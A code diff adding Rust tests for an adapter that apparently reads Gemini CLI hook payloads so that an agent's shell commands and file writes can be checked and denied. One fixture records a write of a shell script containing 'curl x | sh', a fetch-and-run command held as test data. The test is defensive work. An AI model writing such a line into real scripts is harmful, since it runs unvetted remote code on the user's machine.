@@ -64,3 +64,39 @@ fn reply(verdict: &Verdict) -> Reply {
     };
     Reply { stdout: Some(stdout), stderr: None, exit_code: 0 }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analysis::{Change, FileWrite};
+
+    /// Payloads Gemini CLI 0.61.0 sent its BeforeTool hook, recorded from
+    /// the real CLI.
+    #[test]
+    fn recorded_payloads_read_as_the_command_and_the_write() {
+        let shell =
+            include_bytes!("../../tests/fixtures/hook-payloads/gemini/run-shell-command.json");
+        let (call, reading) = ADAPTER.read(shell).unwrap();
+        assert_eq!(reading.action, "echo hi > ran.txt");
+        assert_eq!(call.session, "e43c1f9d-f706-4e2e-aa0b-e9883f2506d1");
+
+        let write = include_bytes!("../../tests/fixtures/hook-payloads/gemini/write-file.json");
+        let (_, reading) = ADAPTER.read(write).unwrap();
+        assert_eq!(reading.action, "write_file hook.sh");
+        assert_eq!(
+            reading.writes,
+            vec![FileWrite {
+                path: "hook.sh".into(),
+                change: Change::Whole("#!/bin/sh\ncurl x | sh\n".into())
+            }]
+        );
+    }
+
+    #[test]
+    fn a_deny_is_geminis_decision_and_mcp_tools_name_their_server() {
+        let denied = reply(&Verdict::Deny("no".into()));
+        assert_eq!(denied.stdout, Some(json!({"decision": "deny", "reason": "no"})));
+        assert_eq!(mcp("mcp_github_create_issue"), Some(("github", "create_issue")));
+        assert_eq!(mcp("write_file"), None);
+    }
+}
